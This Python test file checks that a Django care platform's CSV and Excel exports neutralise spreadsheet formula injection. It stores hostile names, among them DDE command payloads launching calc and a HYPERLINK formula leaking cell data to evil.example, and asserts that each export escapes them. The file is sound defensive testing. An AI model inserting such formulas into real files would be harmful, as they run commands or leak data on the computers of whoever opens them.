"""Spreadsheet formula injection (issue 13): names such as `=cmd|' /C calc'!A0`, `+SUM(…)`, `@SUM(…)`
or `=HYPERLINK(…)` are stored as given, and every export — CSV, .xlsx and the import rejection
report — writes them so that no spreadsheet program reads a formula (OWASP CSV injection):
a CSV text cell starting with = + - @ tab or CR gets a leading ', an .xlsx cell is a text cell
marked "quote prefix" (Excel's own leading apostrophe), numbers stay numbers."""

import csv
import datetime
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from carecircle.core.models import Region
from tests.conftest import COMMUNITY_A, id_number

NAMES = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
STREET, STREET2, DISTRICT, CITY = "339901001000", "339901002000", "339901000000", "339900000000"
SRC = Path(__file__).resolve().parents[2] / "src" / "carecircle"


# ---- the helper ----


@pytest.fixture
def exports():
    from carecircle.core import exports

    return exports


@pytest.mark.parametrize("text", NAMES + ["\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)"])
def test_dangerous_text_is_escaped(exports, text):
    assert exports.escape_text(text) == "'" + text


@pytest.mark.parametrize("value", ["张三", "1+1", "", "'=already", " =1", "339901001000", "2026-01-01"])
def test_harmless_text_is_unchanged(exports, value):
    assert exports.escape_text(value) == value


@pytest.mark.parametrize("value", [-5, -12.5, Decimal("-12.50"), 0, 3, None, datetime.date(2026, 1, 1)])
def test_numbers_and_dates_are_not_text(exports, value):
    assert exports.csv_value(value) == ("" if value is None else value)


def test_csv_writer_escapes_text_and_keeps_numbers(exports):
    out = io.StringIO()
    w = exports.csv_writer(out)
    w.writerow(["=1+1", -5, Decimal("-12.50"), "-5", "\t@x", "正常"])
    w.writerows([["+A1"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'=1+1", "-5", "-12.50", "'-5", "'\t@x", "正常"], ["'+A1"]]


@pytest.mark.parametrize("write_only", [False, True])
def test_workbook_never_holds_a_formula(exports, write_only):
    wb = exports.workbook(write_only=write_only)
    ws = wb.create_sheet("表") if write_only else wb.active
    exports.sheet_append(ws, [*NAMES, -5, Decimal("-12.50"), "正常", None])
    if not write_only:  # a cell written directly is caught when the workbook is saved
        ws["A5"] = "=1+1"
    body = exports.xlsx_bytes(wb)
    check_xlsx(body, must_contain=NAMES)
    from openpyxl import load_workbook

    row = [c for c in load_workbook(io.BytesIO(body)).worksheets[0][1]]
    assert [c.value for c in row[5:8]] == [-5, -12.5, "正常"]
    assert row[5].data_type == row[6].data_type == "n" and row[6].number_format == "0.00"


# ---- checks on whole exports ----


def check_csv(body: bytes, must_contain=()):
    text = body.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    for c in cells:
        if c.startswith(TRIGGERS) and not NUMBER.fullmatch(c):
            pytest.fail(f"CSV cell {c!r} would be read as a formula")
    for name in must_contain:
        assert "'" + name in cells, f"{name!r} is missing from the export"
    return cells


def check_xlsx(body: bytes, must_contain=()):
    from openpyxl import load_workbook

    with zipfile.ZipFile(io.BytesIO(body)) as z:
        for n in z.namelist():
            if n.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", z.read(n)), f"{n} holds a formula"
    texts = []
    for ws in load_workbook(io.BytesIO(body)).worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    texts.append(c.value)
                    if c.value.startswith(TRIGGERS):
                        assert c.data_type == "s" and c.quotePrefix, f"{ws.title}!{c.coordinate} {c.value!r}"
    for name in must_contain:
        assert name in texts, f"{name!r} is missing from the workbook"
    return texts


# ---- every export of the platform, with the names stored ----


@pytest.fixture
def hostile(users, make_person):
    """People, regions, an account and alarm notes named with formulas."""
    from carecircle.benefits import defaults
    from carecircle.benefits.models import Fund
    from carecircle.benefits.services import fund_appropriate
    from carecircle.registry.services import status_add
    from tests.benefits.conftest import born

    for code, name in (
        (STREET, NAMES[0]),
        (STREET2, NAMES[1]),
        (COMMUNITY_A, NAMES[2]),
        (DISTRICT, NAMES[3]),
        (CITY, NAMES[4]),
    ):
        Region.objects.filter(code=code).update(name=name)
    defaults.install(actor=users["admin"], region_code="339900000000", valid_from=datetime.date(2020, 1, 1))
    for fund in Fund.objects.all():
        fund_appropriate(
            actor=users["admin"], fund=fund, amount=Decimal("1000000"), memo="预算", key=f"t:{fund.pk}"
        )
    people = []
    for name in NAMES:
        p = make_person(name=name, birth=born(85, datetime.date(2026, 11, 1), 5))
        status_add(
            actor=users["admin"],
            person=p,
            kind="living_alone",
            valid_from=datetime.date(2020, 1, 1),
            source="测试",
        )
        people.append(p)
    users["operator"].display_name = NAMES[4]
    users["operator"].save()
    return people


def test_vulnerable_person_export(hostile, users, client_for):
    r = client_for(users["street"]).get("/carevisits/vulnerable/export.csv")
    assert r.status_code == 200
    check_csv(r.content, must_contain=NAMES[:3])  # the people, and their community's name


def test_bank_files(hostile, users, client_for):
    from carecircle.benefits import services

    (batch,) = services.payroll_run(
        actor=users["street"], month="2026-11", region_code=STREET, programme_code="GAOLING"
    )
    services.payroll_approve(actor=users["district"], batch_id=batch.pk)
    body, _name = services.payroll_export(actor=users["district"], batch_id=batch.pk, fmt="csv")
    cells = check_csv(body, must_contain=NAMES)
    assert "50.00" in cells  # the amount is a number, written as one
    body, _name = services.payroll_export(actor=users["district"], batch_id=batch.pk, fmt="xlsx")
    check_xlsx(body, must_contain=NAMES)
    district = client_for(users["district"])
    for fmt in ("csv", "xlsx"):
        r = district.get(f"/benefits/payrolls/{batch.pk}/bank-file.{fmt}")
        assert r.status_code == 200
        (check_csv if fmt == "csv" else check_xlsx)(r.content, must_contain=NAMES)


def test_alarm_timeline_and_monthly_report(hostile, users, client_for):
    from carecircle.alarms import services

    t0 = timezone.make_aware(datetime.datetime(2026, 3, 10, 10, 0, 0))
    incident = services.incident_create(
        person=hostile[0], source="device", kind="sos", title=NAMES[1], now=t0
    )
    services.incident_note(actor=users["operator"], incident_id=incident.pk, text=NAMES[3], now=t0)
    r = client_for(users["operator"]).get(f"/alarms/incidents/{incident.pk}/timeline.csv")
    assert r.status_code == 200
    check_csv(r.content, must_contain=[NAMES[1], NAMES[3], NAMES[4]])  # title, note, operator's name
    r = client_for(users["district"]).get("/alarms/reports/monthly/?month=2026-03&format=csv")
    assert r.status_code == 200
    check_csv(r.content, must_contain=[f"{NAMES[4]} / {NAMES[3]} / {NAMES[0]}"])  # city / district / street


def test_indicator_workbook(hostile, users, client_for):
    from carecircle.planning.services import indicators_load_defaults

    indicators_load_defaults()
    r = client_for(users["district"]).get(f"/planning/region/{DISTRICT}/export.xlsx")
    assert r.status_code == 200
    check_xlsx(r.content, must_contain=[NAMES[3], NAMES[0], NAMES[1]])  # the district, its streets


def test_import_rejection_report(users, city, client_for, django_capture_on_commit_callbacks):
    from carecircle.registry.models import ImportJob

    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(["姓名", "身份证号", "社区代码"])
    for name in NAMES:
        w.writerow([name, "123", COMMUNITY_A])  # refused: the ID number is wrong
    w.writerow(["张三", id_number(datetime.date(1950, 1, 1), 7), "=1+1"])  # refused: the community code
    client = client_for(users["street"])
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            "/people/imports/", {"file": SimpleUploadedFile("人员.csv", out.getvalue().encode("utf-8-sig"))}
        )
    job = ImportJob.objects.get()
    assert job.rejected_count == len(NAMES) + 1
    for url in (f"/people/imports/{job.pk}/rejections.csv", f"/api/v1/imports/{job.pk}/rejections.csv"):
        r = client.get(url)
        assert r.status_code == 200
        check_csv(r.content, must_contain=NAMES)


def test_every_writer_goes_through_the_helper():
    """No CSV writer or workbook is made anywhere but in core/exports.py."""
    raw = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|from openpyxl import .*\bWorkbook\b")
    offenders = [
        str(p.relative_to(SRC))
        for p in SRC.rglob("*.py")
        if p.name != "exports.py" or p.parent.name != "core"
        if raw.search(p.read_text(encoding="utf-8"))
    ]
    assert not offenders, offenders
